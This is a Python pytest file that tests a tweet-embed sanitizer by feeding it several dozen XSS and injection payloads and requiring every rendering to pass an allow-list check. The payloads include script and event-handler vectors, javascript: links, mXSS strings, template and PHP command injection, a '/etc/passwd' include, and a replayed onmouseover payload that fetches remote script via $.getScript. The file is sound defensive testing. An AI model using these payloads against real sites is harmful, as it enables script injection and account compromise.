"""Attacks: the known ones from other projects (where the corpus is), and our own, in every place a stranger can write to.

The judge is not the parser that the code uses: lxml reads what comes out, and an allow-list written down here again says what may be there.
"""

import json
import re
from collections.abc import Iterator
from pathlib import Path

import lxml.html  # type: ignore[import-untyped]
import pytest

from service.core.model import Look, TroubleError
from service.core.oembed import read_blockquote, read_look, read_oembed
from service.core.render import render_blockquote
from service.core.sanitize import is_within_allow_list

CORPUS = Path(__file__).resolve().parents[3] / "shared" / "corpus" / "xss"
ID = "1988151234567890123"
PERMALINK = f"https://x.com/Ada_L/status/{ID}"

OWN = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<a onclick="alert(1)" href="https://t.co/a">x</a>',
    "<p onmouseenter=alert(1)>x",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java&#x0A;script:alert(1)">x</a>',
    '<a href=" &#14;javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="blob:https://x.com/1">x</a>',
    '<a href="//evil.test">x.com</a>',
    r'<a href="\\evil.test">x</a>',
    r'<a href="https:\\evil.test">x</a>',
    '<a href="https://x.com@evil.test">x</a>',
    '<a href="https://x.com.evil.test/Ada_L/status/1">@Ada_L</a>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<xmp><p></xmp><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<div>" * 600 + "<img src=x onerror=alert(1)>",
    "<b>" * 200 + "<p>" + "</b>" * 200 + "x",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<base href="https://evil.test/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
    '<p style="position:fixed;inset:0">x</p>',
    '<a class="twitter-share-button" data-text="x" href="https://x.com/share">x</a>',
    '<a class="twitter-timeline" href="https://x.com/evil">x</a>',
    '<p id="currentScript" name="attributes">x</p>',
    '<blockquote class="twitter-tweet" data-tweet-id="20"><a href="https://x.com/jack/status/20">x</a></blockquote>',
    "-->",
    "]]>",
    "</blockquote></div></td></table><h1>out</h1>",
    "</p></blockquote><script>alert(1)</script>",
    "<blockquote>",
    "<plaintext>",
    "<textarea>",
    "<title>",
    "\x00<scr\x00ipt>alert(1)</script>",
    "a\r\nb\u2028c\u2029d",
    "<!-- wp:html --><script>alert(1)</script><!-- /wp:html -->",
    "{{constructor.constructor('alert(1)')()}}",
    "{% include '/etc/passwd' %}",
    "[caption]<script>alert(1)</script>[/caption]",
    "[embed]https://evil.test/[/embed]",
    "<?php system('id') ?>",
    "<%= system('id') %>",
    r"""http://t.co/@"style="font-size:999999999999px;"onmouseover="$.getScript('http:\u002f\u002fis.gd\u002ffl9A7')"class/""",
    "\"'><img src=x onerror=alert(1)>",
    "' onfocus=alert(1) autofocus x='",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u202ehttps://x.com/\u202c",
    "<a href='https://evil.test/'>https://x.com\u2215Ada</a>",
    "<p/onclick=alert(1)>",
    "<a\x0bhref=javascript:alert(1)>x</a>",
    "<<script>alert(1)//<</script>",
    "<br/onload=alert(1)>",
]
OEMBED_FIELDS = (
    "html",
    "words",
    "attribution",
    "date",
    "href",
    "lang",
    "url",
    "author_name",
    "author_url",
    "provider_name",
    "title",
    "version",
)
ARTICLE_FIELDS = ("whole", "words", "attribution", "date", "href", "lang", "class", "data-theme", "bare")
ALLOWED = {
    "blockquote": {
        "class": "twitter-(tweet|video)",
        "data-align": "left|center|right",
        "data-cards": "hidden",
        "data-conversation": "none",
        "data-dnt": "true",
        "data-lang": "[a-z]{2,3}(-[a-z]{2})?",
        "data-theme": "light|dark",
        "data-width": "[2-5][0-9]{2}",
    },
    "p": {"lang": "[A-Za-z0-9-]{2,44}", "dir": "ltr|rtl|auto"},
    "a": {"href": r"https?://[^/?#@\\\s]+\.[^/?#@\\\s]+([/?#][^\\\s\"<>]*)?"},
    "br": {},
}


def assert_safe(written: str) -> None:
    """Judge an embed between two siblings, in the places where block content stands."""
    for before, behind in (("<div>", "</div>"), ("<ul><li>", "</li></ul>"), ("<table><tr><td>", "</td></tr></table>")):
        page = lxml.html.document_fromstring(f"<html><body>{before}<i>1</i>{written}<i>2</i>{behind}</body></html>")
        first, embed, second = page.xpath("//i[text()='1']/../*")
        assert (first.tag, embed.tag, second.tag, second.text) == ("i", "blockquote", "i", "2")
        assert not (first.tail)
        assert not (embed.tail)
        assert not (second.tail)
        for element in embed.iter():
            assert element.tag in ALLOWED
            allowed = ALLOWED[element.tag]
            for name, value in element.attrib.items():
                assert name in allowed
                assert re.fullmatch(allowed[name], value)
        permalink = embed.xpath("(.//a)[last()]/@href")[0]
        assert re.fullmatch(rf"https://x\.com/(i|[A-Za-z0-9_]+)/status/{ID}", permalink)
    assert not re.search(r"[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]|\{\{|\{%|\[[\w/]|<\?|<!", written)


def embed(
    words: str = "Hi",
    attribution: str = "&mdash; Ada (@Ada_L)",
    date: str = "November 11, 2025",
    href: str = "https://t.co/a",
    lang: str = "en",
) -> str:
    paragraph = f'<p lang="{lang}">{words} <a href="{href}">y</a></p>'
    return f'<blockquote class="twitter-tweet">{paragraph}{attribution} <a href="{PERMALINK}">{date}</a></blockquote>'


def oembed_answer(field: str, vector: str) -> bytes:
    fields = {
        "url": PERMALINK,
        "author_name": "Ada",
        "author_url": "https://x.com/Ada_L",
        "html": embed(),
        "type": "rich",
        "version": "1.0",
    }
    if field in {"words", "attribution", "date", "href", "lang"}:
        fields["html"] = embed(**{field: vector})
    else:
        fields[field] = vector
    return json.dumps(fields).encode()


def article_embed(field: str, vector: str) -> str:
    if field == "whole":
        return vector + embed()
    if field == "bare":
        return f'<blockquote>{vector}— Ada (@Ada_L) <a href="{PERMALINK}">{vector}</a></blockquote>'
    if field in {"class", "data-theme"}:
        return embed().replace("<blockquote ", f'<blockquote {field}="twitter-tweet {vector}" ').replace(' class="twitter-tweet">', ">")
    return embed(**{field: vector})


def attack(vector: str) -> int:
    """Put a vector in every place; whatever is written must be safe, and no other error than `TroubleError` may come. How many were."""
    written = 0
    for field in OEMBED_FIELDS:
        try:
            rendering = render_blockquote(read_oembed(ID, oembed_answer(field, vector)), Look())
        except TroubleError:
            continue
        assert_safe(rendering)
        written += 1
    for field in ARTICLE_FIELDS:
        fragment = article_embed(field, vector)
        tweet = read_blockquote(fragment)
        if is_within_allow_list(fragment):
            assert tweet is not None
            lxml_tags = {element.tag for element in lxml.html.fragment_fromstring(fragment, create_parent="div").iter()}
            assert lxml_tags <= {"div", *ALLOWED}
        if tweet is not None and tweet.id == ID:
            assert_safe(render_blockquote(tweet, read_look(fragment)))
            written += 1
        elif tweet is not None:
            render_blockquote(tweet, read_look(fragment))
    return written


@pytest.mark.parametrize("vector", OWN, ids=lambda vector: ascii(vector[:30]))
def test_an_attack_of_our_own_list_does_nothing_anywhere(vector: str) -> None:
    assert attack(vector) >= 8


def corpus_vectors() -> Iterator[str]:
    for name in ("bleach_data", "bleach_test_clean_pairs", "dompurify_expect"):
        yield from (entry["payload"] for entry in json.loads((CORPUS / f"{name}.json").read_text("utf-8")))
    yield from json.loads((CORPUS / "owasp_xss_vectors.json").read_text("utf-8"))
    for path in sorted(CORPUS.glob("*tree-construction*.dat.txt")):
        yield from re.findall(r"^#data\n(.*?)\n#errors", path.read_text("utf-8"), re.DOTALL | re.MULTILINE)
    for path in sorted(CORPUS.glob("*tokenizer*.test.json")):
        for test in json.loads(path.read_text("utf-8")).get("tests", ()):
            yield json.loads(f'"{test["input"]}"') if test.get("doubleEscaped") else test["input"]


def run_corpus(step: int) -> None:
    if not CORPUS.is_dir():
        pytest.skip(f"no recorded vectors at {CORPUS}")
    vectors = list(dict.fromkeys(vector for vector in corpus_vectors() if isinstance(vector, str)))
    assert len(vectors) > 1_000
    assert sum(attack(vector) for vector in vectors[::step]) > 5 * len(vectors[::step])


def test_a_sample_of_others_attacks_does_nothing_anywhere() -> None:
    run_corpus(173)


@pytest.mark.long
def test_all_of_others_attacks_do_nothing_anywhere() -> None:
    run_corpus(1)


@pytest.mark.parametrize(
    "harm",
    [
        '<blockquote class="twitter-tweet"><p>x</p><a href="javascript:alert(1)">y</a></blockquote>',
        f'<blockquote class="twitter-tweet"><p onclick="x">x</p><a href="{PERMALINK}">y</a></blockquote>',
        f'<blockquote class="twitter-tweet"><p>x<img src="y"></p><a href="{PERMALINK}">y</a></blockquote>',
        f'<blockquote class="twitter-tweet"><p>x</p><a href="{PERMALINK}">y</a></blockquote>text',
        f'<blockquote class="twitter-tweet"><p>{{{{x</p><a href="{PERMALINK}">y</a></blockquote>',
        '<blockquote class="twitter-tweet"><p>x</p><a href="https://x.com/jack/status/20">y</a></blockquote>',
    ],
)
def test_the_judge_sees_harm(harm: str) -> None:
    with pytest.raises(AssertionError):
        assert_safe(harm)
